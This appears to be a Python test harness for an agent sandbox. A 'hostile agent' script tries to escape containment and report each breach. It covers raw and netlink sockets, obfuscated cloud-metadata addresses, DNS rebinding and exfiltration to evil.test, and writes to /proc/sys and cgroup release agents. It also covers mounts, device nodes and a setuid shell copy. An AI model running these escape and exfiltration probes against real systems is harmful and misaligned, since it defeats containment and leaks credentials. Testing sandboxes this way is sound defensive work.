"""A hostile agent. Runs inside a sandbox and tries to get out, to learn a real credential, or to spend one where it is not meant.

    python3 hostile.py GROUP

Every attempt prints one line: verdict, group, name, what was tried, what happened. The verdict is `ok` when the attempt was
stopped, `BREACH` when it was not, `BROKEN` when it could not be made as meant. Each runs in a process of its own, so that one
that is killed for what it does is only itself over. What it needs to know of the world is in hostile.json beside it.
"""

import base64, ctypes, errno, fcntl, json, mmap, os, re, resource, signal, socket, ssl, stat, struct, subprocess, sys, time
import urllib.parse, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, 'hostile.json')) as file:
    WORLD = json.load(file)
SYS = WORLD['sys']
# Given in halves, so that no file and no message of this test holds a whole one.
CANARIES = {name: ''.join(halves) for name, halves in WORLD['canaries'].items()}
BOUND, EVIL = WORLD['bound'], WORLD['evil']
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
# Longer than anything takes on a busy machine; an attempt that hangs is reported, not waited for.
PATIENCE = 20
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EROFS}


class Breach(Exception):
    pass


ATTEMPTS = []


def attempt(group, tried, dies=()):
    """Registers an attempt; `dies` are signals that end it rightly."""
    def register(function):
        ATTEMPTS.append((group, function.__name__, tried, function, dies))
        return function
    return register


def many(group, cases):
    """Registers one attempt for each (name, tried, arguments)."""
    def register(function):
        for name, tried, *arguments in cases:
            ATTEMPTS.append((group, name, tried, lambda arguments=arguments: function(*arguments), ()))
        return function
    return register


def run(group):
    for its, name, tried, function, dies in ATTEMPTS:
        if its == group:
            verdict, happened = isolated(function, dies)
            line = '\t'.join([verdict, its, name, tried, ' '.join(happened.split())[:300]])
            print('@' + line, flush=True)


def isolated(function, dies):
    sys.stdout.flush()
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        signal.alarm(PATIENCE)
        try:
            said = ('ok', function())
        except Breach as breach:
            said = ('BREACH', str(breach))
        except BaseException as problem:
            said = ('BROKEN', '%s: %s' % (type(problem).__name__, problem))
        os.write(write, json.dumps(said).encode()[:60000])
        os._exit(0)
    os.close(write)
    text = b''
    while chunk := os.read(read, 65536):
        text += chunk
    os.close(read)
    status = os.waitpid(child, 0)[1]
    if text:
        verdict, happened = json.loads(text)
        return verdict, happened if isinstance(happened, str) else 'BROKEN: says nothing'
    if os.WIFSIGNALED(status) and os.WTERMSIG(status) in dies:
        return 'ok', 'killed by %s' % signal.Signals(os.WTERMSIG(status)).name
    return 'BROKEN', 'ended with status %d and without a word' % status


# ---------------------------------------------------------------------------------------------------------------- tools

def call(name, *arguments):
    """A raw system call: its result, or minus its error number."""
    number = name if isinstance(name, int) else SYS[name]
    ready = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *ready)
    return -ctypes.get_errno() if result == -1 else result


def refused(result, allowed=REFUSED):
    """The result of a call that must not have succeeded, and not have failed for a wrong reason either."""
    if result >= 0:
        raise Breach('it succeeded with %d' % result)
    if -result not in allowed:
        raise RuntimeError('it failed for another reason: %s' % errno.errorcode.get(-result, -result))
    return errno.errorcode[-result]


def denied(function, allowed=REFUSED | {errno.ENOENT, errno.ENXIO, errno.ENODEV}):
    """Calls a function that must raise an OSError of these."""
    try:
        result = function()
    except OSError as problem:
        if problem.errno not in allowed:
            raise
        return errno.errorcode[problem.errno]
    raise Breach('it succeeded: %r' % (result,))


def forms(secret):
    """Every disguise in which a secret is looked for."""
    raw = secret.encode()
    yield raw
    yield raw.lower()
    yield raw[::-1]
    yield secret.encode('utf-16-le')
    yield raw.hex().encode()
    yield raw.hex().upper().encode()
    yield ''.join('%%%02X' % byte for byte in raw).encode()
    yield ''.join('%%%02x' % byte for byte in raw).encode()
    yield ''.join('\\u%04x' % byte for byte in raw).encode()
    for before in range(3):
        text = base64.b64encode(b'\0' * before + raw)
        inside = text[-(-8 * before // 6):8 * (before + len(raw)) // 6]
        yield inside
        yield inside.replace(b'+', b'-').replace(b'/', b'_')


def unpacked(data):
    """The bytes themselves and whatever is packed in them."""
    yield data
    for start in [at.start() for at in re.finditer(rb'\x1f\x8b\x08', data)]:
        try:
            inner = zlib.decompressobj(31).decompress(data[start:])
        except zlib.error:
            continue
        yield from unpacked(inner)
    for start in [at.start() for at in re.finditer(rb'\x78[\x01\x9c\xda\x5e]', data)]:
        try:
            yield zlib.decompressobj().decompress(data[start:])
        except zlib.error:
            continue


def leak(data):
    """The name of the credential that is in these bytes, in whatever disguise."""
    for bytes_ in unpacked(data):
        joined = re.sub(rb'\r\n[0-9a-fA-F]+\r\n', b'', bytes_)
        for name, secret in CANARIES.items():
            for form in forms(secret):
                if form in bytes_ or form in joined:
                    return name
    return None


def clean(data, where):
    if name := leak(data):
        raise Breach('the value of %s is in %s' % (name, where))


def stub(name):
    value = os.environ[name]
    assert value.startswith('stub_'), 'the environment holds no stub'
    return value


def read_all(sock):
    data = b''
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except (ConnectionResetError, ssl.SSLError):
        pass
    return data


def open_tls(host, port, sni=None, alpn=None, sock=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    # What certificate the vault shows is not what these attempts are about.
    context.verify_mode = ssl.CERT_NONE
    if alpn:
        context.set_alpn_protocols(alpn)
    sock = sock or socket.create_connection((host, port), PATIENCE)
    return context.wrap_socket(sock, server_hostname=sni or host)


class Answer:
    def __init__(self, raw):
        self.raw = raw
        head, _, self.body = raw.partition(b'\r\n\r\n')
        lines = head.split(b'\r\n')
        words = lines[0].split(b' ', 2)
        self.status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
        self.headers = {}
        for line in lines[1:]:
            name, _, value = line.partition(b':')
            self.headers[name.strip().lower().decode('latin-1')] = value.strip().decode('latin-1')
        if 'chunked' in self.headers.get('transfer-encoding', ''):
            body, rest = b'', self.body
            while rest:
                size, _, rest = rest.partition(b'\r\n')
                count = int(size.split(b';')[0] or b'0', 16)
                body, rest = body + rest[:count], rest[count + 2:]
                if count == 0:
                    break
            self.body = body

    @property
    def blocked(self):
        return self.headers.get('x-lap-blocked')


def talk(data, host=None, port=None, tls=True, sni=None, sock=None):
    """Sends bytes, reads to the end of the connection, looks for secrets in whatever came."""
    host, port = host or BOUND['name'], port or BOUND['tls']
    if sock is None:
        sock = open_tls(host, port, sni) if tls else socket.create_connection((host, port), PATIENCE)
    sock.settimeout(PATIENCE)
    for piece in data if isinstance(data, list) else [data]:
        try:
            sock.sendall(piece)
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
            break
    raw = read_all(sock)
    clean(raw, 'the answer')
    return Answer(raw)


def get(path, *headers, host=None, port=None, tls=True, method='GET', body=b'', sni=None, authority=None, sock=None):
    name, number = host or BOUND['name'], port or BOUND['tls']
    lines = ['%s %s HTTP/1.1' % (method, path), 'Host: ' + (authority or '%s:%d' % (name, number)), *headers, 'Connection: close']
    if body:
        lines.append('Content-Length: %d' % len(body))
    return talk('\r\n'.join(lines).encode() + b'\r\n\r\n' + body, name, number, tls, sni, sock)


def bearer(name='BOUND_TOKEN'):
    return 'Authorization: Bearer ' + stub(name)


def blocked(answer, *codes):
    if answer.blocked not in codes:
        raise Breach('answered %d %s: %r' % (answer.status, answer.blocked, answer.raw[:200]))
    return '%d %s' % (answer.status, answer.blocked)


def proxy():
    return socket.create_connection(('198.18.0.1', 3128), PATIENCE)


def closed_unanswered(sock, data=b''):
    """Speaks and must hear nothing."""
    sock.settimeout(PATIENCE)
    try:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
    except (ConnectionError, OSError) as problem:
        if problem.errno not in (errno.ECONNRESET, errno.EPIPE, errno.ENOTCONN):
            raise
    heard = read_all(sock)
    if heard:
        raise Breach('something answered: %r' % heard[:100])
    return 'closed without an answer'


# -------------------------------------------------------------------------------------------------------------- network

@many('network', [
    ('raw_icmp', 'a raw ICMP socket', socket.AF_INET, socket.SOCK_RAW, 1),
    ('raw_tcp', 'a raw TCP socket', socket.AF_INET, socket.SOCK_RAW, 6),
    ('raw_ip', 'a raw IP socket that writes its own headers', socket.AF_INET, socket.SOCK_RAW, 255),
    ('raw_ipv6', 'a raw IPv6 socket', socket.AF_INET6, socket.SOCK_RAW, 58),
    ('packet', 'AF_PACKET, frames of the wire', 17, socket.SOCK_RAW, socket.htons(3)),
    ('packet_dgram', 'AF_PACKET, cooked', 17, socket.SOCK_DGRAM, socket.htons(3)),
    ('vsock', 'AF_VSOCK to the hypervisor', 40, socket.SOCK_STREAM, 0),
    ('alg', 'AF_ALG, the kernel\'s ciphers', 38, socket.SOCK_SEQPACKET, 0),
    ('netfilter', 'netlink to netfilter, to lift the redirection', 16, socket.SOCK_RAW, 12),
    ('xfrm', 'netlink to IPsec', 16, socket.SOCK_RAW, 6),
    ('netlink_audit', 'netlink to the audit log', 16, socket.SOCK_RAW, 9),
    ('uevent', 'netlink for the kernel\'s device events', 16, socket.SOCK_DGRAM, 15),
    ('bluetooth', 'AF_BLUETOOTH', 31, socket.SOCK_RAW, 1),
    ('tipc', 'AF_TIPC', 30, socket.SOCK_SEQPACKET, 0),
    ('xdp', 'AF_XDP', 44, socket.SOCK_RAW, 0),
    ('sctp', 'SCTP, which no redirection sees', socket.AF_INET, socket.SOCK_STREAM, 132),
    ('dccp', 'DCCP, a rarely used transport', socket.AF_INET, 6, 33),
    ('udplite', 'UDP-Lite over IPv6', socket.AF_INET6, socket.SOCK_DGRAM, 136),
])
def odd_socket(family, kind, protocol):
    return refused(call('socket', family, kind, protocol), REFUSED | {errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT})


def netlink(kind, payload, flags=0x5):
    """Sends a route request and returns the kernel's answer: an error number."""
    sock = socket.socket(16, socket.SOCK_RAW, 0)
    sock.sendall(struct.pack('=IHHII', 16 + len(payload), kind, flags, 1, 0) + payload)
    sock.settimeout(PATIENCE)
    return struct.unpack_from('=i', sock.recv(4096), 16)[0]


@many('network', [
    ('route_add', 'a new default route', 24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HHI', 8, 4, 1), 0x605),
    ('route_delete', 'remove the route that makes every address local', 25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 0, 0, 2, 0), 5),
    ('link_down', 'take the loopback interface down', 16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1), 5),
    ('link_add', 'make a veth pair toward the machine', 16, struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0)
        + struct.pack('=HH', 16, 18 | 0x8000) + struct.pack('=HH', 9, 1) + b'veth\0\0\0\0', 0x605),
    ('link_move', 'move the interface to the machine\'s network', 16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 0) + struct.pack('=HHI', 8, 19, 1), 5),
    ('address_add', 'a new address', 20, struct.pack('=BBBBI', 2, 24, 0, 0, 1) + struct.pack('=HH', 8, 2) + bytes([10, 9, 8, 7]), 0x605),
    ('rule_add', 'a routing rule', 32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0), 0x605),
])
def route_change(kind, payload, flags):
    return refused(netlink(kind, payload, flags))


@attempt('network', 'look for any interface but loopback')
def interfaces():
    names = [name for _, name in socket.if_nameindex()]
    if names != ['lo']:
        raise Breach('there are %s' % names)
    return 'only lo'


@attempt('network', 'a loopback service of the machine, at 127.0.0.1')
def loopback_of_the_machine():
    return denied(lambda: socket.create_connection(('127.0.0.1', WORLD['host_tcp']), PATIENCE), {errno.ECONNREFUSED})


@attempt('network', 'a loopback service of the machine, at ::1')
def loopback_of_the_machine_v6():
    return denied(lambda: socket.create_connection(('::1', WORLD['host_tcp']), PATIENCE), {errno.ECONNREFUSED})


@attempt('network', 'the vault\'s own listener by its loopback address, with a bound host')
def listener_directly():
    answer = get('/listener', bearer(), host='127.0.0.1', port=1, tls=False, authority='%s:%d' % (BOUND['name'], BOUND['plain']))
    return blocked(answer, 'misdirected', 'private_address', 'misdirected_stub')


@many('network', [
    ('private_0', 'the machine by 0.0.0.0', '0.0.0.0'), ('private_10', 'a private network', '10.0.0.1'),
    ('private_172', 'a container bridge', '172.17.0.1'), ('private_192', 'a home router', '192.168.1.1'),
    ('private_link', 'a link-local address', '169.254.1.1'), ('private_shared', 'carrier-grade NAT', '100.64.0.1'),
    ('private_v6', 'a unique local address', 'fd00::1'), ('private_v6_link', 'the mapped loopback', '::ffff:127.0.0.1'),
    ('private_6to4', 'a private address behind 6to4', '2002:7f00:1::1'), ('private_nat64', 'a private address behind NAT64', '64:ff9b::7f00:1'),
    ('broadcast', 'everybody', '255.255.255.255'), ('multicast', 'a multicast group', '224.0.0.1'),
])
def private(address):
    authority = '[%s]:%d' % (address, WORLD['host_tcp']) if ':' in address else '%s:%d' % (address, WORLD['host_tcp'])
    seen = []
    # Through the explicit proxy first: it takes any spelling; then as the kernel would connect.
    with proxy() as sock:
        answer = talk(('GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (authority, authority)).encode(), sock=sock)
    seen.append(blocked(answer, 'private_address', 'metadata', 'bad_request', 'unknown_address', 'denied'))
    if address not in ('0.0.0.0', '::ffff:127.0.0.1'):
        try:
            answer = get('/', host=address, port=WORLD['host_tcp'], tls=False, authority=authority)
            seen.append(blocked(answer, 'private_address', 'metadata', 'bad_request'))
        except OSError as problem:
            seen.append(errno.errorcode.get(problem.errno, str(problem)))
    return ', '.join(seen)


@many('network', [('metadata_%d' % number, 'the metadata service as %s' % spelling, spelling) for number, spelling in enumerate([
    '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '0xA9.0xFE.0xA9.0xFE', '169.254.43518', '169.254.169.254.',
    '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[fd00:ec2::254]', 'metadata.google.internal', 'METADATA.google.INTERNAL.',
    '100.100.100.200', '\u2460\u2465\u2468.254.169.254', 'metadata.nip.test', '[64:ff9b::a9fe:a9fe]', '[::169.254.169.254]', '169.254.169.254%2f.evil.test',
])])
def metadata(spelling):
    raw = ('GET http://%s/latest/meta-data/ HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n' % (spelling, spelling)).encode()
    with proxy() as sock:
        answer = talk(raw, sock=sock)
    allowed = ['metadata', 'private_address', 'bad_request']
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    if 'internal' in spelling.lower():
        # A name that only a cloud resolves.
        allowed.append('dns')
    return blocked(answer, *allowed)


@many('network', [(name.replace('.', '_'), 'a public name that leads to %s' % where, name) for name, where in [
    ('loopback.nip.test', 'loopback'), ('mapped.nip.test', 'mapped loopback'), ('ten.nip.test', 'a private network'), ('six.nip.test', '::1')]])
def name_to_private(name):
    return blocked(get('/', host=name, port=WORLD['host_tcp'], tls=False), 'private_address')


@attempt('network', 'rebinding: one name whose answers change while it is asked again and again')
def rebinding():
    addresses = {socket.gethostbyname('loopback.nip.test') for _ in range(20)}
    if len(addresses) != 1 or not next(iter(addresses)).startswith('198.1'):
        raise Breach('the name means %s' % addresses)
    verdicts = {get('/', host='loopback.nip.test', port=WORLD['host_tcp'], tls=False).blocked for _ in range(5)}
    if verdicts != {'private_address'}:
        raise Breach('verdicts: %s' % verdicts)
    return 'always the same fake address, always private_address'


def udp_silent(address, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        try:
            sock.connect((address, port))
            sock.send(data)
            heard = sock.recv(2000)
        except (ConnectionRefusedError, TimeoutError, PermissionError) as problem:
            return type(problem).__name__
        except OSError as problem:
            return errno.errorcode.get(problem.errno, str(problem))
    raise Breach('%d bytes came back' % len(heard))


@many('network', [
    ('udp_out', 'UDP to the internet', '192.0.2.1', 4000), ('udp_quic', 'QUIC', '192.0.2.1', 443), ('udp_ntp', 'NTP', '192.0.2.1', 123),
    ('udp_machine', 'a UDP service of the machine', '127.0.0.1', None), ('udp_machine_lan', 'the same by another address', '10.0.0.1', None)])
def udp(address, port):
    return udp_silent(address, port or WORLD['host_udp'], b'x' * 1200)


def question(name, kind=1, ident=7):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode('latin-1').split(b'.'))
    return struct.pack('>HHHHHH', ident, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)


def ask_dns(server, query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query, (server, 53))
        return sock.recv(4096)


@attempt('network', 'DNS from a public resolver')
def dns_elsewhere():
    answer = ask_dns('8.8.8.8', question('example.com'))
    if answer[-4:-2] not in (b'\xc6\x12', b'\xc6\x13'):
        raise Breach('an answer that is not the vault\'s: %r' % answer)
    return 'the vault answered in its place, with a fake address'


@many('network', [('dns_' + name, 'DNS records of type %s, which could carry data' % name, number) for name, number in
                  [('txt', 16), ('aaaa', 28), ('https', 65), ('svcb', 64), ('mx', 15), ('ns', 2), ('any', 255), ('axfr', 252), ('null', 10), ('cname', 5)]])
def dns_kinds(kind):
    answer = ask_dns('10.0.0.53', question('payload.evil.test', kind))
    if struct.unpack('>H', answer[6:8])[0]:
        raise Breach('an answer with data: %r' % answer)
    return 'no data'


@attempt('network', 'exfiltration through long DNS names')
def dns_exfiltration():
    for number in range(500):
        answer = ask_dns('10.0.0.53', question('.'.join(['%04d' % number + 'a' * 59] * 3) + '.evil.test'))
        if answer[-4:-2] not in (b'\xc6\x12', b'\xc6\x13') and answer[3] & 15 == 0:
            raise Breach('not a fake address: %r' % answer)
    return '500 names answered from inside, nothing asked outside'


@attempt('network', 'broken DNS packets')
def dns_broken():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for packet in [b'', b'\0', b'\0' * 12, b'\0\1\1\0\0\1' + b'\0' * 6 + b'\xc0\x0c\0\1\0\1', question('x') + b'\xff' * 1400,
                   b'\0\1\1\0\xff\xff' + b'\0' * 6 + b'?' * 900, question('x')[:13] + b'\xff' * 300]:
        sock.sendto(packet, ('10.0.0.53', 53))
    if not ask_dns('10.0.0.53', question('evil.test')):
        raise Breach('the resolver is gone')
    return 'the resolver goes on'


@attempt('network', 'DNS over TCP to a public resolver')
def dns_tcp():
    query = question('example.com')
    return closed_unanswered(socket.create_connection(('8.8.8.8', 53), PATIENCE), struct.pack('>H', len(query)) + query)


@many('network', [
    ('tcp_not_http', 'a protocol that is neither HTTP nor TLS', b'SSH-2.0-hostile\r\n'),
    ('tcp_smtp', 'mail', b'EHLO evil\r\nMAIL FROM:<a@b>\r\n'), ('tcp_redis', 'redis', b'*1\r\n$4\r\nPING\r\n'),
    ('tcp_binary', 'a binary protocol', bytes(range(1, 200))), ('tcp_nul', 'zero bytes', b'\0' * 64),
    ('tcp_socks', 'SOCKS', b'\5\1\0'), ('tcp_http2_clear', 'a broken HTTP/2 preface', b'PRI * HTTP/2.0\r\n\r\nXX\r\n\r\nraw')])
def raw_tcp(data):
    sock = socket.create_connection((EVIL['name'], EVIL['raw']), PATIENCE)
    sock.settimeout(PATIENCE)
    try:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        heard = read_all(sock)
    except OSError as problem:
        return errno.errorcode.get(problem.errno, str(problem))
    if b'RAW-SERVICE' in heard:
        raise Breach('the service answered: %r' % heard[:100])
    return 'not carried (%d bytes of refusal)' % len(heard)


@attempt('network', 'another port of the machine that runs the model gateway')
def gateway_other_port():
    return blocked(get('/', host='gateway.lap.internal', port=WORLD['host_tcp'], tls=False), 'gateway_route', 'misdirected')


@attempt('network', 'an address of the fake range that stands for nothing')
def unknown_fake():
    sock = socket.create_connection(('198.19.250.250', 80), PATIENCE)
    return closed_unanswered(sock, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')


@attempt('network', 'an abstract socket of the machine')
def abstract_socket():
    sock = socket.socket(socket.AF_UNIX)
    return denied(lambda: sock.connect('\0' + WORLD['host_abstract']), {errno.ECONNREFUSED, errno.EPERM})


@attempt('network', 'a socket file of the machine, and those of its daemons')
def path_socket():
    seen = set()
    for path in [WORLD['host_socket'], WORLD['host_data'] + '/run/link.sock', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket',
                 '/run/systemd/private', '/run/containerd/containerd.sock', '/tmp/.X11-unix/X0']:
        sock = socket.socket(socket.AF_UNIX)
        seen.add(denied(lambda: sock.connect(path), {errno.ENOENT, errno.EACCES, errno.ECONNREFUSED}))
    return ', '.join(sorted(seen))


@attempt('network', 'take the vault\'s ports before it')
def bind_low_ports():
    seen = set()
    for port in (1, 53, 80, 443):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        seen.add(denied(lambda: sock.bind(('0.0.0.0', port)), {errno.EACCES, errno.EADDRINUSE}))
    return ', '.join(sorted(seen))


@many('network', [('mark', 'mark packets past the redirection', 36, struct.pack('i', 1)), ('transparent', 'a transparent socket', None, None)])
def socket_options(option, value):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if option is None:
        return denied(lambda: sock.setsockopt(socket.SOL_IP, 19, 1))
    return denied(lambda: sock.setsockopt(socket.SOL_SOCKET, option, value))


# ----------------------------------------------------------------------------------------------------------- filesystem

@attempt('files', 'a file of the machine by its path, by .., and by a link')
def machine_file():
    link = os.path.join(HERE, 'link-out')
    if not os.path.islink(link):
        os.symlink(WORLD['host_file'], link)
    ways = [WORLD['host_file'], '/../../../..' + WORLD['host_file'], '/work/../..' + WORLD['host_file'], link, '/proc/self/root' + WORLD['host_file'],
            '/proc/self/cwd/../../../../..' + WORLD['host_file'], '/proc/thread-self/root/..' + WORLD['host_file']]
    return ', '.join(sorted({denied(lambda: open(way).read()) for way in ways}))


@attempt('files', 'a file of the machine through /proc/*/root and /proc/*/cwd of every process')
def machine_file_through_processes():
    tries = 0
    for pid in filter(str.isdigit, os.listdir('/proc')):
        for way in ('root', 'cwd'):
            tries += 1
            denied(lambda: open('/proc/%s/%s/../../..%s' % (pid, way, WORLD['host_file'])).read())
    return '%d ways, none leads out' % tries


@attempt('files', 'the server\'s folder: its key, its database, other sandboxes')
def server_folder():
    seen = {denied(lambda: open(os.path.join(WORLD['host_data'], name), 'rb').read()) for name in ('master.key', 'lap.db', 'serve.log')}
    seen.add(denied(lambda: os.listdir(os.path.join(WORLD['host_data'], 'sandboxes'))))
    return ', '.join(sorted(seen))


@attempt('files', 'whatever of the machine lies in /tmp, /dev/shm, /root, /home, /var, /run, /mnt, /srv, /media, /boot')
def machine_folders():
    # The machine has a file of this name in its /tmp and its /dev/shm.
    mark, looked = WORLD['host_mark'], 0
    for top in ('/tmp', '/dev/shm', '/root', '/home', '/var', '/run', '/mnt', '/srv', '/media', '/boot'):
        for folder, folders, files in os.walk(top):
            looked += 1
            for name in folders + files:
                if mark in name:
                    raise Breach('%s/%s is the machine\'s' % (folder, name))
    return 'looked into %d folders' % looked


@attempt('files', 'write into every read-only part of the root')
def read_only_parts():
    seen = set()
    for folder in ('/', '/usr', '/usr/bin', '/usr/lib', '/etc', '/opt', '/opt/lap', '/opt/lap/bin', '/proc', '/proc/sys', '/sys', '/dev'):
        if os.path.isdir(folder):
            seen.add(denied(lambda: os.open(os.path.join(folder, 'hostile'), os.O_CREAT | os.O_WRONLY)))
    for file in ('/usr/bin/env', '/etc/passwd', '/etc/resolv.conf', '/etc/hosts', '/etc/ld.so.cache', '/opt/lap/bin/lap'):
        seen.add(denied(lambda: os.open(file, os.O_WRONLY)))
        seen.add(denied(lambda: os.truncate(file, 0)))
        seen.add(denied(lambda: os.chmod(file, 0o777)))
        seen.add(denied(lambda: os.unlink(file), REFUSED | {errno.EBUSY}))
    return ', '.join(sorted(seen))


@attempt('files', 'reopen a read-only file for writing through /proc/self/fd')
def reopen():
    file = os.open('/usr/bin/env', os.O_PATH)
    return denied(lambda: os.open('/proc/self/fd/%d' % file, os.O_WRONLY))


@attempt('files', 'overwrite the running program through /proc/PID/exe')
def overwrite_exe():
    seen = set()
    for pid in filter(str.isdigit, os.listdir('/proc')):
        seen.add(denied(lambda: os.open('/proc/%s/exe' % pid, os.O_WRONLY), REFUSED | {errno.ETXTBSY, errno.ENOENT}))
    return ', '.join(sorted(seen))


@attempt('files', 'hard links from the machine\'s files into the sandbox')
def hard_links():
    return ', '.join(sorted({denied(lambda: os.link(file, '/work/stolen'), REFUSED | {errno.EXDEV}) for file in
                             ('/usr/bin/env', '/etc/passwd', '/opt/lap/bin/lap', '/proc/self/exe', '/dev/null')}))


@many('files', [
    ('remount', 'remount / writable', '', '/', '', 32), ('remount_usr', 'remount /usr writable', '', '/usr', '', 32 | 4096),
    ('mount_bind', 'bind /work over /usr', '/work', '/usr', '', 4096), ('mount_tmpfs', 'a new tmpfs', 'none', '/tmp', 'tmpfs', 0),
    ('mount_proc', 'a fresh /proc without covers', 'proc', '/tmp', 'proc', 0), ('mount_sysfs', 'sysfs', 'sysfs', '/tmp', 'sysfs', 0),
    ('mount_cgroup', 'the control groups', 'cgroup', '/tmp', 'cgroup2', 0), ('mount_devtmpfs', 'all devices', 'devtmpfs', '/tmp', 'devtmpfs', 0),
    ('mount_overlay', 'an overlay', 'overlay', '/tmp', 'overlay', 0), ('mount_move', 'move /proc away', '/proc', '/tmp', '', 8192),
    ('mount_shared', 'share mounts with the machine', '', '/', '', 1 << 20)])
def mounts(source, target, kind, flags):
    return refused(call('mount', source.encode(), target.encode(), kind.encode(), flags, 0))


@attempt('files', 'take the covers off /proc')
def uncover():
    return ', '.join(sorted({refused(call('umount2', path, flags)) for path in (b'/proc/sys', b'/proc/kcore', b'/proc/sysrq-trigger', b'/usr', b'/work') for flags in (0, 2)}))


@attempt('files', 'make device nodes')
def device_nodes():
    seen = set()
    for folder in ('/work', '/tmp', '/dev/shm', '/dev', '/home/agent'):
        for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 254, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFCHR, 10, 232)):
            seen.add(denied(lambda: os.mknod(folder + '/hostile-node', 0o666 | kind, os.makedev(major, minor))))
    return ', '.join(sorted(seen))


@attempt('files', 'open devices of the machine')
def devices():
    for path in ('mem', 'kmem', 'port', 'kmsg', 'kvm', 'fuse', 'loop-control', 'net/tun', 'vhost-net', 'vhost-vsock', 'vda', 'vdb', 'sda', 'nvme0', 'nvme0n1', 'loop0', 'dm-0',
                 'mapper/control', 'uinput', 'snapshot', 'userfaultfd', 'vfio/vfio', 'dri/card0', 'watchdog', 'hpet', 'tty0', 'ttyS0', 'console', 'cpu/0/msr', 'rfkill', 'uhid'):
        denied(lambda: os.open('/dev/' + path, os.O_RDONLY | os.O_NONBLOCK))
    strange = [name for name in os.listdir('/dev') if name not in ('fd full null ptmx pts random shm stderr stdin stdout tty urandom zero').split()]
    if strange:
        raise Breach('there are %s' % strange)
    return 'none of them is there'


@attempt('files', 'open every file below /proc/sys for writing')
def settings():
    tries = 0
    for folder, _, files in os.walk('/proc/sys'):
        for name in files:
            tries += 1
            denied(lambda: os.open(os.path.join(folder, name), os.O_WRONLY))
    if tries < 100:
        raise RuntimeError('only %d files' % tries)
    return '%d files, none opens' % tries


@many('files', [('setting_' + name.split('/')[-1], 'write to /proc/' + name, name) for name in
                ('sys/kernel/core_pattern', 'sys/kernel/modprobe', 'sys/kernel/hotplug', 'sys/vm/overcommit_memory', 'sys/fs/binfmt_misc/register', 'sys/net/ipv4/ip_forward',
                 'sys/user/max_user_namespaces', 'sys/kernel/unprivileged_bpf_disabled', 'irq/default_smp_affinity')])
def setting(name):
    return denied(lambda: os.open('/proc/' + name, os.O_WRONLY))


@many('files', [('kernel_' + name.replace('-', '_'), '/proc/' + name, name) for name in ('kcore', 'keys', 'sysrq-trigger', 'kallsyms', 'timer_list', 'sched_debug', 'kmsg', 'kpagecount', 'vmallocinfo', 'slabinfo')])
def kernel_file(name):
    path = '/proc/' + name
    try:
        found = os.stat(path)
    except OSError as problem:
        return errno.errorcode[problem.errno]
    if found.st_rdev == os.makedev(1, 3):
        return 'covered by /dev/null'
    # Opened, never written: a breach must be found without breaking the machine it runs on.
    return denied(lambda: os.open(path, os.O_WRONLY if 'sysrq' in name else os.O_RDONLY | os.O_NONBLOCK))


@attempt('files', 'control groups and their release agent')
def control_groups():
    found = [path for top in ('/sys/fs/cgroup', '/sys', '/run') for path, _, files in os.walk(top) if {'cgroup.procs', 'release_agent', 'tasks'} & set(files)]
    if found:
        raise Breach('there is %s' % found[:3])
    if any(' cgroup' in line for line in open('/proc/self/mountinfo')):
        raise Breach('a cgroup file system is mounted')
    return 'not there'


@attempt('files', 'write anywhere in /sys')
def kernel_objects():
    files = [os.path.join(folder, name) for folder, _, names in os.walk('/sys') for name in names]
    if files:
        raise Breach('%d files in /sys' % len(files))
    return denied(lambda: os.open('/sys/kernel', os.O_CREAT | os.O_WRONLY))


@attempt('files', 'descriptors left open by whoever started this')
def inherited():
    strange = []
    for name in os.listdir('/proc/self/fd'):
        try:
            target = os.readlink('/proc/self/fd/' + name)
        except OSError:
            continue
        own = target.startswith(('/dev/null', '/proc/', HERE)) or target.startswith('pipe:')
        if not own:
            strange.append('%s -> %s' % (name, target))
    if strange:
        raise Breach(', '.join(strange))
    return 'pipes and /dev/null alone'


@attempt('files', 'a set-user-id program of one\'s own')
def own_setuid():
    target = '/work/setuid-shell'
    subprocess.run(['cp', '/bin/sh', target], check=True)
    os.chmod(target, 0o6755)
